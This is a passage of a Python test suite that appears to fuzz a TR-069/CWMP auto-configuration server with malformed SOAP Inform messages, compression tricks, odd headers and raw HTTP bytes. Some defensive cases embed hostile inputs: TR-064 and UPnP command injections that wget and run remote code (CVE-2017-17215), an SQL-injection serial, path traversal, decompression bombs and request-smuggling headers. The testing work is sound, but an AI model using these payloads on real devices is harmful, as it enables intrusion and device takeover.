            "</s:Header>", f"<cwmp:SupportedCWMPVersions>{',' * 5000}9.9,&lt;</cwmp:SupportedCWMPVersions></s:Header>"
        ),
        "accepted",
        "quirk 229",
    ),
]

_TIMES_OF_DAY = [
    "",
    "0001-01-01T00:00:00",
    "2026-01-01T24:00:00Z",
    "T11:54::14",
    "Thu Jan 9 10:00:00 2026",
    "1767225600",
    "Unknown",
    "2026-01-01T00:00:00+0000",
    "2026-01-01T00:00:00.123456789Z",
    "9999-99-99T99:99:99Z",
    "-2026-01-01T00:00:00Z",
]
_NUMBERS = [
    "",
    "05",
    " 7 ",
    "-1",
    "0x1F",
    "4294967296",
    "99999999999999999999",
    "1e9",
    "NaN",
    "1,000",
    "\u0661",
    "\u00b2",
]
_BOOLEANS = ["", "TRUE", "yes", "on", "enabled", "30", "-1", "maybe", "\u0661", "\u00b2" * 30]

INFORMS: Final = [
    Case("nothing in it", text(lambda s: envelope("<cwmp:Inform/>")), "fault 8003", "cwmp.md 1.5: it names no phone"),
    Case("no DeviceId", text(lambda s: envelope(inform(s, device=""))), "fault 8003", "cwmp.md 1.5, quirk 62"),
    Case(
        "an empty DeviceId",
        text(lambda s: envelope(inform(s, device="<DeviceId/>"))),
        "fault 8003",
        "cwmp.md 1.5, quirk 62",
    ),
    Case(
        "everything in DeviceId empty",
        text(lambda s: envelope(inform(s, device=deviceid("", "", "", "")))),
        "fault 8003",
        "cwmp.md 1.5, quirk 62",
    ),
    Case(
        "a DeviceId of blanks",
        text(lambda s: envelope(inform(s, device=deviceid(" \t ", " ", " ", " ")))),
        "fault 8003",
        "cwmp.md 1.5, quirk 62",
    ),
    Case(
        "identity in the parameters only",
        text(
            lambda s: envelope(
                inform(
                    s,
                    device="",
                    values=array(
                        "ParameterList",
                        "ParameterValueStruct",
                        [
                            value("Device.DeviceInfo.SerialNumber", s),
                            value("Device.DeviceInfo.ManufacturerOUI", "0C383E"),
                        ],
                    ),
                )
            )
        ),
        "accepted",
        "quirk 62",
    ),
    Case(
        "no SerialNumber but a MAC address",
        text(
            lambda s: envelope(
                inform(
                    s,
                    device=deviceid(""),
                    values=array(
                        "ParameterList", "ParameterValueStruct", [value("Device.LAN.MACAddress", "0C:38:3E:99:00:01")]
                    ),
                )
            )
        ),
        "accepted",
        "quirks 62 and 142",
    ),
    Case("no OUI", text(lambda s: envelope(inform(s, device=deviceid(s, oui="")))), "accepted", "quirk 62"),
    Case(
        "an OUI that is none",
        text(lambda s: envelope(inform(s, device=deviceid(s, oui="oo11ab'--")))),
        "accepted",
        "quirk 143",
    ),
    Case(
        "a serial number that is a path",
        text(lambda s: envelope(inform(s, device=deviceid(f"../../{s}/%00")))),
        "accepted",
        "quirk 144",
    ),
    Case(
        "a serial number that is SQL",
        text(lambda s: envelope(inform(s, device=deviceid(f"'; DROP TABLE device; -- {s}")))),
        "accepted",
        "cwmp.md 8",
    ),
    Case(
        "DeviceId last",
        text(lambda s: envelope(f"<cwmp:Inform>{VALUES}{COUNTS}{EVENT}{deviceid(s)}</cwmp:Inform>")),
        "accepted",
        "order means nothing",
    ),
    Case(
        "DeviceId twice", text(lambda s: envelope(inform(s, extra=deviceid(s + "B")))), "accepted", "the first counts"
    ),
    Case("no Event", text(lambda s: envelope(inform(s, events=""))), "accepted", "quirk 60"),
    Case("Event empty", text(lambda s: envelope(inform(s, events="<Event/>"))), "accepted", "quirk 60"),
    Case("no ParameterList", text(lambda s: envelope(inform(s, values=""))), "accepted", "quirk 60"),
    Case("no counts and times", text(lambda s: envelope(inform(s, counts=""))), "accepted", "quirks 50, 59 and 60"),
    Case("MaxEnvelopes 2", replaced("<MaxEnvelopes>1<", "<MaxEnvelopes>2<"), "accepted", "quirk 50"),
    Case("MaxEnvelopes of nonsense", replaced("<MaxEnvelopes>1<", "<MaxEnvelopes>-x<"), "accepted", "quirk 50"),
    Case(
        "odd event codes",
        with_events(
            event(""),
            event(" 4 VALUECHANGE "),
            event("M TRANSFERCOMPLETE"),
            event("X CT-COM  BIND"),
            event("\u4e00"),
            event("1"),
            event("10 AUTONOMOUS TRANSFER COMPLETE", "k"),
            "<EventStruct/>",
            "<EventStruct>1 BOOT</EventStruct>",
        ),
        "accepted",
        "quirk 63",
    ),
    Case(
        "arrays in arrays",
        text(
            lambda s: envelope(
                inform(
                    s,
                    events=f"<Event><Event>{EVENT}</Event></Event>",
                    values=f"<ParameterList>{VALUES}</ParameterList>",
                )
            )
        ),
        "accepted",
        "read as empty",
    ),
    Case(
        "members of other names",
        lambda s: plain(s).replace(b"EventStruct>", b"Foo>").replace(b"ParameterValueStruct>", b"ParameterValueStuct>"),
        "accepted",
        "quirks.md 4.8",
    ),
    Case(
        "wrong array counts",
        lambda s: (
            plain(s)
            .replace(b"EventStruct[1]", b"EventStruct[04]")
            .replace(b"ParameterValueStruct[1]", b"ParameterValueStruct[99999999999999]")
        ),
        "accepted",
        "quirk 51",
    ),
    Case(
        "array counts of nonsense",
        lambda s: plain(s).replace(b"EventStruct[1]", b"EventStruct[-1]").replace(b"ParameterValueStruct[1]", b"]["),
        "accepted",
        "quirk 51",
    ),
    Case(
        "a value without Value",
        with_values("<ParameterValueStruct><Name>Device.X</Name></ParameterValueStruct>"),
        "accepted",
        "quirk 156",
    ),
    Case(
        "a value without Name",
        with_values("<ParameterValueStruct><Value>1</Value></ParameterValueStruct>"),
        "accepted",
        "quirk 60",
    ),
    Case(
        "a parameter that is empty",
        with_values("<ParameterValueStruct/>", "<ParameterValueStruct></ParameterValueStruct>"),
        "accepted",
        "quirk 60",
    ),
    Case("a value without a type", with_value("", "1"), "accepted", "quirks 52 and 158"),
    Case(
        "types of nonsense",
        with_values(
            *[
                value(f"Device.T{n}", "1", f' xsi:type="{kind}"')
                for n, kind in enumerate(
                    [
                        "",
                        ":",
                        "xsd:",
                        "string",
                        "xsd:string(64)",
                        "xsd:signedInt",
                        "soap-enc:base64",
                        "xsd:DateTime",
                        "x" * 500,
                        "a:b:c",
                        "{u}v",
                    ]
                )
            ]
        ),
        "accepted",
        "quirk 53",
    ),
    Case("elements in a value", with_value("", "<a>1<b>2</b></a>3"), "accepted", "text of all of them"),
    Case(
        "names of nonsense",
        with_values(
            *[
                value(name, "1")
                for name in (
                    "",
                    ".",
                    "..",
                    "Device",
                    "Device.",
                    "Device..X",
                    ".Device.X",
                    "Device.X.",
                    "Device.X",
                    "Device.X.Y",
                    "__proto__",
                    "Device.\u4e00",
                    "a b",
                    "%s%n{0}",
                )
            ]
        ),
        "accepted",
        "never reject",
    ),
    Case("one name many times", with_values(*[value("Device.X", str(n)) for n in range(50)]), "accepted", "quirk 112"),
    *[
        Case(f"CurrentTime {time!r}", replaced("2026-01-01T00:00:00Z", time), "accepted", "quirks 57 and 96")
        for time in _TIMES_OF_DAY
    ],
    *[
        Case(
            f"RetryCount {number!r}",
            replaced("<RetryCount>0<", f"<RetryCount>{number}<"),
            "accepted",
            "quirks 56 and 59",
        )
        for number in _NUMBERS
    ],
    Case(
        "numbers of every kind",
        with_values(
            *[
                value(f"Device.N{n}", number, f' xsi:type="xsd:{kind}"')
                for n, number in enumerate(_NUMBERS)
                for kind in ("int", "unsignedInt", "long")
            ]
        ),
        "accepted",
        "quirk 56",
    ),
    Case(
        "booleans of every kind",
        with_values(*[value(f"Device.B{n}", word, ' xsi:type="xsd:boolean"') for n, word in enumerate(_BOOLEANS)]),
        "accepted",
        "quirk 54",
    ),
    Case(
        "times of every kind",
        with_values(*[value(f"Device.T{n}", time, ' xsi:type="xsd:dateTime"') for n, time in enumerate(_TIMES_OF_DAY)]),
        "accepted",
        "quirk 57",
    ),
]


def call(name: str, inner: str = "") -> str:
    return f"<cwmp:{name}>{inner}</cwmp:{name}>"


def fault(
    inner: str = "<cwmp:Fault><FaultCode>9005</FaultCode><FaultString>x</FaultString></cwmp:Fault>",
    code: str = "s:Client",
) -> str:
    return (
        f"<s:Fault><faultcode>{code}</faultcode><faultstring>CWMP fault</faultstring><detail>{inner}</detail></s:Fault>"
    )


def soap(inner: str) -> Body:
    return text(lambda serial: envelope(inner))


TR_064: Final = (
    (
        '<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" '
        'SOAP-ENV:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><SOAP-ENV:Body>'
        '<u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1"><NewNTPServer1>`cd /tmp;wget LURE/1;sh 1`</NewNTPServer1>'
        "<NewNTPServer2></NewNTPServer2></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>"
    )
    .replace("LURE", LURE)
    .encode()
)
UPNP: Final = (
    (
        '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>'
        '<u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget LURE)</NewStatusURL>'
        "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>"
    )
    .replace("LURE", LURE)
    .encode()
)

OUTSIDE: Final = [
    *[
        Case(f"{name} outside a session", soap(call(name)), "400", "cwmp.md 2.2 rule 1")
        for name in (
            "TransferComplete",
            "AutonomousTransferComplete",
            "GetRPCMethods",
            "RequestDownload",
            "Kicked",
            "DUStateChangeComplete",
            "GetParameterValuesResponse",
            "RebootResponse",
            "Download",
            "InformResponse",
            "X_VENDOR_Ping",
        )
    ],
    Case("a fault outside a session", soap(fault()), "400", "cwmp.md 2.2 rule 1"),
    Case("a fault without detail outside a session", soap("<s:Fault/>"), "400", "cwmp.md 2.2 rule 1"),
    Case(
        "TR-064 NewNTPServer",
        constant(TR_064),
        "400",
        "cwmp.md 8: a scan, not parsed further",
        {"SOAPAction": "urn:dslforum-org:service:Time:1#SetNTPServers"},
    ),
    Case("TR-064 Reboot", constant(TR_064.replace(b"SetNTPServers", b"Reboot")), "400", "cwmp.md 8: a scan"),
    Case("UPnP DeviceUpgrade", constant(UPNP), "400", "cwmp.md 8: CVE-2017-17215"),
    Case(
        "another SOAP service",
        constant(
            f'<s:Envelope xmlns:s="{SOAP}"><s:Body><GetVersion xmlns="http://tempuri.org/"/></s:Body></s:Envelope>'.encode()
        ),
        "400",
        "cwmp.md 8",
    ),
    Case(
        "XML-RPC",
        constant(b"<?xml version='1.0'?><methodCall><methodName>system.listMethods</methodName></methodCall>"),
        "400",
        "not an envelope",
    ),
]

_TRANSFER = "<CommandKey>k</CommandKey><FaultStruct><FaultCode>0</FaultCode><FaultString/></FaultStruct><StartTime>2026-01-01T00:00:00Z</StartTime><CompleteTime>2026-01-01T00:00:00Z</CompleteTime>"

IN_SESSION: Final = [
    Case("TransferComplete of something unknown", soap(call("TransferComplete", _TRANSFER)), "accepted", "quirk 83"),
    Case("TransferComplete without anything", soap(call("TransferComplete")), "accepted", "quirk 60"),
    Case(
        "TransferComplete without FaultStruct",
        soap(call("TransferComplete", "<CommandKey>k</CommandKey>")),
        "accepted",
        "quirk 60",
    ),
    Case(
        "TransferComplete with a fault of nonsense",
        soap(call("TransferComplete", _TRANSFER.replace(">0<", "> -9999x <"))),
        "accepted",
        "quirk 75",
    ),
    Case(
        "TransferComplete with times of nonsense",
        soap(call("TransferComplete", _TRANSFER.replace("2026-01-01T00:00:00Z", "never"))),
        "accepted",
        "quirk 57",
    ),
    Case(
        "TransferComplete with a key of 100,000 characters",
        soap(call("TransferComplete", _TRANSFER.replace(">k<", f">{'k' * 100_000}<"))),
        "accepted",
        "quirk 83",
    ),
    Case(
        "AutonomousTransferComplete",
        soap(
            call(
                "AutonomousTransferComplete", f"<AnnounceURL>{LURE}/a</AnnounceURL><TransferURL>{LURE}/t</TransferURL>"
            )
        ),
        "accepted",
        "cwmp.md 1.5",
    ),
    Case("GetRPCMethods", soap(call("GetRPCMethods")), "accepted", "quirk 94"),
    Case(
        "RequestDownload",
        soap(call("RequestDownload", "<FileType>1 Firmware Upgrade Image</FileType><FileTypeArg/>")),
        "accepted",
        "cwmp.md 1.5",
    ),
    Case("RequestDownload without anything", soap(call("RequestDownload")), "fault 8003", "cwmp.md 1.5: which file?"),
    Case(
        "Kicked",
        soap(call("Kicked", f"<Command>c</Command><Referer>r</Referer><Arg>a</Arg><Next>{LURE}/next</Next>")),
        "accepted",
        "cwmp.md 1.5",
    ),
    Case("DUStateChangeComplete without results", soap(call("DUStateChangeComplete")), "accepted", "quirk 60"),
    Case(
        "AutonomousDUStateChangeComplete with nonsense",
        soap(
            call(
                "AutonomousDUStateChangeComplete",
                "<Results><AutonOpResultStruct><UUID/><Resolved>x</Resolved><CurrentState>y</CurrentState></AutonOpResultStruct></Results>",
            )
        ),
        "accepted",
        "quirk 60",
    ),
    *[
        Case(f"{name} the wrong way", soap(call(name)), "fault 8000", "cwmp.md 1.3: not an ACS method")
        for name in (
            "Download",
            "GetParameterValues",
            "SetParameterValues",
            "Reboot",
            "FactoryReset",
            "AddObject",
            "ChangeDUState",
            "ScheduleInform",
        )
    ],
    Case("a vendor's method", soap(call("X_VENDOR_Ping", "<A><B/></A>")), "fault 8000", "cwmp.md 1.3"),
    Case("a method named like an attack", soap(call("__import__")), "fault 8000", "cwmp.md 1.3"),
    Case("an answer to nothing", soap(call("GetParameterValuesResponse")), "goes on", "cwmp.md 2.2 rule 11"),
    Case("an answer of a vendor's method", soap(call("X_VENDOR_PingResponse")), "goes on", "cwmp.md 2.2 rule 11"),
    Case(
        "our own InformResponse",
        soap(call("InformResponse", "<MaxEnvelopes>1</MaxEnvelopes>")),
        "goes on",
        "cwmp.md 2.2 rule 11",
    ),
    Case("a fault to nothing", soap(fault()), "goes on", "a fault is never answered with one (cwmp.md 1.7)"),
    Case(
        "a fault 8005",
        soap(fault("<cwmp:Fault><FaultCode>8005</FaultCode><FaultString>Retry request</FaultString></cwmp:Fault>")),
        "goes on",
        "cwmp.md 1.7",
    ),
    Case(
        "a fault without detail",
        soap("<s:Fault><faultcode>Client</faultcode><faultstring>no</faultstring></s:Fault>"),
        "goes on",
        "quirk 73",
    ),
    Case("a fault with nothing", soap("<s:Fault/>"), "goes on", "quirk 73"),
    Case(
        "a fault with text for a code",
        soap(fault("<Fault><FaultCode>9005 Invalid</FaultCode></Fault>")),
        "goes on",
        "quirk 75",
    ),
    Case("an empty Body in a session", soap(""), "goes on", "as an empty POST"),
    Case("a web page in a session", constant(b"<html>captive portal</html>"), "400", "quirk 77: the session lives on"),
    Case("a document type in a session", constant(b"<!DOCTYPE x><x/>"), "400", "cwmp.md 8: the session lives on"),
    Case("TR-064 in a session", constant(TR_064), "400", "cwmp.md 8: the session lives on"),
    Case(
        "half a message in a session",
        lambda s: soap(call("TransferComplete", _TRANSFER))(s)[:-50],
        "400",
        "the session lives on",
    ),
    Case(
        "SOAP 1.2 in a session",
        text(lambda s: envelope(call("GetRPCMethods"), soap=SOAP_1_2)),
        "400",
        "cwmp.md 1.1: the session lives on",
    ),
]
"""Sent in place of the empty POST behind an Inform. ``goes on``: a request of ours or a 204."""

ANSWERS: Final = [
    Case("no members", soap(call("{}")), "goes on", "quirk 60"),
    Case("a list of nothing", soap(call("{}", "<ParameterList/><MethodList/>")), "goes on", "quirk 60"),
    Case("Status 2", soap(call("{}", "<Status>2</Status>")), "goes on", "quirk 61"),
    Case(
        "Status of nonsense",
        soap(call("{}", "<Status> 1x</Status><InstanceNumber>0</InstanceNumber>")),
        "goes on",
        "quirks 61 and 127",
    ),
    Case(
        "strange members",
        soap(
            call(
                "{}",
                "<MethodList><x/><string/><string><y/></string>text</MethodList><ParameterList><ParameterInfoStruct/><ParameterInfoStruct><Name>.</Name><Writable>30</Writable></ParameterInfoStruct><ParameterValueStruct/></ParameterList>",
            )
        ),
        "goes on",
        "quirk 60",
    ),
    Case(
        "5,000 strange names",
        soap(
            call(
                "{}",
                f"<MethodList>{'<string>' + 'm' * 100 + '</string>'}</MethodList><ParameterList>{''.join(f'<ParameterInfoStruct><Name>{n}.{n}.</Name><Writable>x</Writable></ParameterInfoStruct>' for n in range(5000))}</ParameterList>",
            )
        ),
        "goes on",
        "quirk 71",
    ),
    Case(
        "a fault of nonsense",
        soap(fault("<cwmp:Fault><FaultCode>x</FaultCode><SetParameterValuesFault/></cwmp:Fault>")),
        "goes on",
        "quirks 75 and 76",
    ),
    Case("the answer to something else", soap(call("RebootResponse")), "goes on", "cwmp.md 2.2 rule 11"),
    Case("an empty Body for an answer", soap(""), "goes on", "quirk 81"),
]
"""Answers to whatever the server asked first; ``{}`` is the name of the response that it wants."""


def packed(body: Body, how: Callable[[bytes], bytes]) -> Body:
    return lambda serial: how(body(serial))


def raw_deflate(data: bytes) -> bytes:
    squeeze = zlib.compressobj(wbits=-15)
    return squeeze.compress(data) + squeeze.flush()


GZIP: Final = {"Content-Encoding": "gzip"}
_BOMB = gzip.compress(gzip.compress(bytes(100 << 20)) + bytes(20 << 20))

CODINGS: Final = [
    Case("gzip", packed(plain, gzip.compress), "accepted", "quirk 20", GZIP),
    Case("x-gzip in capitals", packed(plain, gzip.compress), "accepted", "quirk 20", {"Content-Encoding": "X-GZIP"}),
    Case(
        "deflate with zlib's frame",
        packed(plain, zlib.compress),
        "accepted",
        "quirk 20",
        {"Content-Encoding": "deflate"},
    ),
    Case(
        "deflate without a frame", packed(plain, raw_deflate), "accepted", "quirk 20", {"Content-Encoding": "deflate"}
    ),
    Case("identity", plain, "accepted", "quirk 20", {"Content-Encoding": "identity"}),
    Case(
        "gzip in several members",
        lambda s: gzip.compress(plain(s)[:300]) + gzip.compress(plain(s)[300:]),
        "accepted",
        "RFC 1952 2.2",
        GZIP,
    ),
    Case("gzip with rubbish behind", lambda s: gzip.compress(plain(s)) + b"rubbish", "accepted", "quirk 26", GZIP),
    Case("gzip cut off", lambda s: gzip.compress(plain(s))[:-20], "415", "quirk 223", GZIP, None),
    Case("gzip that is none", plain, "415", "quirk 223", GZIP, None),
    Case(
        "gzip with a broken checksum", lambda s: gzip.compress(plain(s))[:-8] + bytes(8), "415", "quirk 223", GZIP, None
    ),
    Case(
        "gzip twice",
        packed(plain, lambda data: gzip.compress(gzip.compress(data))),
        "415",
        "quirk 223",
        {"Content-Encoding": "gzip, gzip"},
        None,
    ),
    Case(
        "gzip twice, said once",
        packed(plain, lambda data: gzip.compress(gzip.compress(data))),
        "400",
        "not XML",
        GZIP,
        None,
    ),
    Case("a gzip bomb", constant(_BOMB), "413", "cwmp.md 8", GZIP, None),
    Case(
        "a deflate bomb",
        constant(zlib.compress(bytes(50 << 20))),
        "413",
        "cwmp.md 8",
        {"Content-Encoding": "deflate"},
        None,
    ),
    Case("a gzip bomb of many members", constant(gzip.compress(b" " * (1 << 20)) * 60), "413", "cwmp.md 8", GZIP, None),
    Case("gzip of nothing", constant(gzip.compress(b"")), "204", "as an empty POST", GZIP, None),
    Case("br", plain, "415", "quirk 20", {"Content-Encoding": "br"}, None),
    Case("a coding of nonsense", plain, "415", "quirk 20", {"Content-Encoding": "\u00e4;q=1"}, None),
]

HEADERS: Final = [
    Case("no Content-Type", plain, "accepted", "quirk 21", {"Content-Type": ""}),
    Case(
        "application/soap+xml",
        plain,
        "accepted",
        "cwmp.md 2.1",
        {"Content-Type": 'application/soap+xml; charset=utf-8; action="x"'},
    ),
    Case("application/json", plain, "accepted", "quirk 21: the body counts", {"Content-Type": "application/json"}),
    Case("a Content-Type of nonsense", plain, "accepted", "quirk 21", {"Content-Type": ";;=;charset=;charset"}),
    Case("no SOAPAction", plain, "accepted", "quirk 27", {"SOAPAction": ""}),
    Case("another SOAPAction", plain, "accepted", "quirk 27", {"SOAPAction": '"urn:dslforum-org:cwmp-1-0#Inform"'}),
    Case("a cookie of 8 KiB", plain, "accepted", "quirk 3", {"Cookie": "acs=" + "x" * 8192}),
    Case("a cookie of nonsense", plain, "accepted", "quirk 3", {"Cookie": '$Version="0";;,acs="; acs=; =acs,\u00e4'}),
    Case("a stale cookie", plain, "accepted", "quirk 5", {"Cookie": "acs=AAAAAAAAAAAAAAAAAAAAAAAA"}),
    Case("15 KiB of headers", plain, "accepted", "cwmp.md 2.10", {"X-Padding": "p" * 15_000}),
    Case("20 KiB of headers", plain, "431", "cwmp.md 2.10", {"X-Padding": "p" * 20_000}, None),
    Case("Expect: 100-continue", plain, "accepted", "quirk 17", {"Expect": "100-continue"}),
    Case("an expectation that nobody knows", plain, "accepted", "quirk 17", {"Expect": "200-ok"}),
    Case(
        "Forwarded of nonsense",
        plain,
        "accepted",
        "quirk 36",
        {"X-Forwarded-For": "not an address, ,\u00e4", "Forwarded": 'for="[::1'},
    ),
]

CASES: Final = [*XML_ATTACKS, *SIZES, *CHARSETS, *WELL_FORMED, *SOAP_CASES, *INFORMS, *OUTSIDE, *CODINGS, *HEADERS]
"""Everything that comes as the first message of a connection."""


def _post(
    body: bytes, *, line: str = "POST /acs HTTP/1.1", length: str | None = "", more: str = "Host: acs\r\n"
) -> bytes:
    declared = "" if length is None else f"Content-Length: {length or len(body)}\r\n"
    return f"{line}\r\n{more}{declared}\r\n".encode("latin-1") + body


@dataclass(frozen=True)
class RawCase:
    """Bytes on a TCP connection. ``expect`` lists the statuses of all answers until the connection ends."""

    name: str
    data: Body
    expect: tuple[str, ...]
    why: str


def _chunked(serial: str, size: int = 100) -> bytes:
    body = plain(serial)
    parts = [body[at : at + size] for at in range(0, len(body), size)]
    return b"".join(f"{len(part):x}\r\n".encode() + part + b"\r\n" for part in parts) + b"0\r\n\r\n"


_CLOSE = "Host: acs\r\nConnection: close\r\n"
_CHUNKS = f"{_CLOSE}Transfer-Encoding: chunked\r\n"

RAW: Final = [
    *[
        RawCase(f"{method}", constant(_post(b"", line=f"{method} / HTTP/1.1", more=_CLOSE)), ("405",), "quirk 28")
        for method in ("GET", "PUT", "DELETE", "OPTIONS", "PATCH", "TRACE", "PROPFIND")
    ],
    RawCase(
        "WebSocket",
        constant(
            b"GET / HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
        ),
        ("405",),
        "quirk 28",
    ),
    RawCase("HTTP/2 preface", constant(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), ("4xx or closed",), "quirk 28"),
    RawCase("TLS", constant(bytes.fromhex("16030100a5010000a10303") + bytes(160)), ("4xx or closed",), "quirk 28"),
    RawCase("rubbish", constant(b"\x00\x01\x02rubbish\r\n\r\n"), ("4xx or closed",), "quirk 28"),
    RawCase("SSH", constant(b"SSH-2.0-scan\r\n"), ("4xx or closed",), "quirk 28"),
    RawCase("SIP", constant(b"OPTIONS sip:x SIP/2.0\r\nVia: SIP/2.0/UDP 1\r\n\r\n"), ("4xx or closed",), "quirk 28"),
    RawCase("connect and leave", constant(b""), ("dropped",), "quirk 188"),
    RawCase("half a head", constant(b"POST / HTTP/1.1\r\nHos"), ("dropped",), "quirk 30"),
    RawCase("half a body", lambda s: _post(plain(s)[:100], length="99999"), ("dropped",), "quirk 30"),
    RawCase("half a chunk", lambda s: _post(b"ff\r\n<", length=None, more=_CHUNKS), ("dropped",), "quirk 30"),
    RawCase("HTTP/1.0", lambda s: _post(plain(s), line="POST /acs HTTP/1.0", more=""), ("200",), "quirk 8"),
    RawCase(
        "no Host", lambda s: _post(plain(s), more="Connection: close\r\n"), ("200",), "the host means nothing here"
    ),
    RawCase(
        "absolute form",
        lambda s: _post(plain(s), line="POST http://acs.example:7547/x?y=z HTTP/1.1", more=_CLOSE),
        ("200",),
        "quirks.md 4.8",
    ),
    RawCase(
        "a long path", lambda s: _post(plain(s), line=f"POST /{'p' * 8000} HTTP/1.1", more=_CLOSE), ("200",), "quirk 29"
    ),
    RawCase(
        "a path of nonsense",
        lambda s: _post(plain(s), line="POST //..//%00%ff%zz;a?&&=\u00e4 HTTP/1.1", more=_CLOSE),
        ("200 or 4xx",),
        "quirk 29",
    ),
    RawCase("chunked", lambda s: _post(_chunked(s), length=None, more=_CHUNKS), ("200",), "quirk 18"),
    RawCase("one byte a chunk", lambda s: _post(_chunked(s, 1), length=None, more=_CHUNKS), ("200",), "quirk 18"),
    RawCase(
        "chunked with extensions and trailers",
        lambda s: _post(
            _chunked(s).replace(b"64\r\n", b"64;x=y\r\n").replace(b"0\r\n\r\n", b"0\r\nX: y\r\n\r\n"),
            length=None,
            more=_CHUNKS,
        ),
        ("200",),
        "quirk 18",
    ),
    RawCase(
        "chunks of nonsense",
        lambda s: _post(b"zz\r\nab\r\n", length=None, more=_CHUNKS),
        ("4xx or closed",),
        "RFC 9112",
    ),
    RawCase(
        "a chunk of no end",
        lambda s: _post(b"fffffffffffffffff\r\nab", length=None, more=_CHUNKS),
        ("4xx or closed",),
        "RFC 9112",
    ),
    RawCase(
        "chunks beyond the limit",
        lambda s: _post(b"1100000\r\n" + bytes(17 << 20) + b"\r\n0\r\n\r\n", length=None, more=_CHUNKS),
        ("413",),
        "cwmp.md 2.10",
    ),
    RawCase("Content-Length -1", lambda s: _post(plain(s), length="-1"), ("4xx or closed",), "RFC 9112"),
    RawCase("Content-Length of words", lambda s: _post(plain(s), length="many"), ("4xx or closed",), "RFC 9112"),
    RawCase(
        "Content-Length beyond 64 bits", lambda s: _post(plain(s), length="9" * 30), ("4xx or closed",), "RFC 9112"
    ),
    RawCase(
        "Content-Length twice",
        lambda s: _post(plain(s), more=f"{_CLOSE}Content-Length: 3\r\n"),
        ("4xx or closed",),
        "RFC 9112: smuggling",
    ),
    RawCase(
        "Content-Length and chunked",
        lambda s: _post(_chunked(s), length="5", more=_CHUNKS),
        ("200 or 4xx",),
        "RFC 9112 6.1: the chunks count, and the connection ends with the answer",
    ),
    RawCase(
        "Content-Length 0 and an envelope behind",
        lambda s: _post(plain(s), length="0", more=_CLOSE),
        ("204",),
        "what follows is not the body",
    ),
    RawCase(
        "a coding of transfer that nobody knows",
        lambda s: _post(plain(s), length=None, more=f"{_CLOSE}Transfer-Encoding: xchunked\r\n"),
        ("4xx or closed",),
        "RFC 9112",
    ),
    RawCase(
        "header lines of nonsense",
        lambda s: _post(plain(s), more=f"{_CLOSE}no colon here\r\n"),
        ("200 or 4xx",),
        "RFC 9112",
    ),
    RawCase(
        "a folded header", lambda s: _post(plain(s), more=f"{_CLOSE}X-A: b\r\n  c\r\n"), ("200 or 4xx",), "quirk 163"
    ),
    RawCase(
        "bare line feeds", lambda s: _post(plain(s), more=_CLOSE).replace(b"\r\n", b"\n"), ("200 or 4xx",), "RFC 9112"
    ),
    RawCase("an empty line before", lambda s: b"\r\n\r\n" + _post(plain(s), more=_CLOSE), ("200",), "RFC 9112 2.2"),
    RawCase(
        "pipelined",
        lambda s: _post(plain(s)) + _post(plain(s + "B"), more=_CLOSE),
        ("200", "200"),
        "cwmp.md 2.1: no phone does; one after the other",
    ),
    RawCase(
        "5,000 headers",
        lambda s: _post(plain(s), more=_CLOSE + "".join(f"X-{n}: {n}\r\n" for n in range(5000))),
        ("431",),
        "cwmp.md 2.10",
    ),
]
"""What only a socket can send; with an own idea of how HTTP is written."""
